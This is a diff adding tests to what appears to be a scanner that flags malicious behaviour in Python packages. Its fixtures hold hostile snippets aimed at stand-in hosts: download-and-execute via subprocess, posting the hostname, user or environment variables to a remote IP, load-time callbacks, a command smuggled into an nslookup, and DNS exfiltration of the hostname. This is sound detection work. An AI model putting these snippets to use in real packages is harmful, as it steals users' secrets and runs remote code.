@@ -158,3 +158,56 @@ def test_reading_ssh_known_hosts_is_not_credential_access_but_a_private_key_is()
     assert not _rules("pkg/ssh.py", 'import os\ndef f():\n    return open(os.path.expanduser("~/.ssh/known_hosts")).read()\n')
     assert ("credential-file-access", "medium", 3) in _rules(
         "pkg/ssh.py", 'import os\ndef f():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n')
+
+
+def test_a_download_saved_under_a_built_path_and_run_through_a_variable_is_download_and_execute() -> None:
+    source = (
+        "import subprocess, tempfile, urllib.request\n"
+        "folder = tempfile.gettempdir()\n"
+        'urllib.request.urlretrieve("https://s.example.test/p.exe", folder + "\\\\package.exe")\n'
+        'cmd = folder + "\\\\package.exe"\n'
+        "subprocess.Popen(cmd)\n"
+    )
+    assert ("download-and-execute", "critical", 5) in _rules("pkg/__init__.py", source)
+
+
+def test_a_downloaded_data_file_passed_as_an_argument_is_not_run() -> None:
+    source = (
+        "import subprocess, urllib.request\n"
+        "def convert():\n"
+        '    urllib.request.urlretrieve("https://models.example.test/m.bin", "model.bin")\n'
+        '    subprocess.run(["converter", "--in", "model.bin", "--out", "model.onnx"])\n'
+    )
+    assert not {r for r in _rules("pkg/convert.py", source) if r[0] == "download-and-execute"}
+
+
+def test_data_sent_through_a_connection_object_s_methods_is_a_send() -> None:
+    beacon = (
+        "import http.client, os, platform\n"
+        'conn = http.client.HTTPConnection("192.0.2.1", timeout=5)\n'
+        'conn.request("POST", "/", str({"h": platform.node(), "u": os.getenv("USER", "")}))\n'
+    )
+    assert ("host-beacon", "critical", 3) in _rules("setup.py", beacon)
+    dump = 'import os, socket\ns = socket.socket()\ns.connect(("192.0.2.1", 80))\ns.sendall(str(os.environ).encode())\n'
+    assert ("secret-exfiltration", "critical", 4) in _rules("pkg/__init__.py", dump)
+
+
+def test_a_request_to_a_public_callback_service_at_load_time_is_a_beacon_and_inside_a_function_low() -> None:
+    at_load = 'import requests\nrequests.get("https://abc123.oast.fun.invalid/")\n'
+    assert ("host-beacon", "critical", 2) in _rules("pkg/__init__.py", at_load)
+    on_call = 'import requests\ndef hook(event):\n    requests.post("https://webhook.site.invalid/x", json=event)\n'
+    assert _rules("pkg/dev.py", on_call) == {("host-beacon", "low", 3)}
+    shell = 'import os\nos.system("nslookup $(ls).abc.oast.fun.invalid")\n'
+    assert ("host-beacon", "critical", 2) in _rules("setup.py", shell)
+
+
+def test_identity_in_a_dns_name_held_in_a_variable_is_exfiltration_and_a_caller_s_name_is_not() -> None:
+    beacon = (
+        "import socket\n"
+        'DOMAIN = "x.dns.attacker.invalid"\n'
+        "name = f'{socket.gethostname().encode().hex()}.{DOMAIN}'\n"
+        "socket.gethostbyname(name)\n"
+    )
+    assert ("dns-exfiltration", "critical", 4) in _rules("setup.py", beacon)
+    helper = 'import socket\ndef srv(domain):\n    name = "_ldap._tcp." + domain\n    return socket.getaddrinfo(name, 389)\n'
+    assert not _rules("pkg/dnsutil.py", helper)
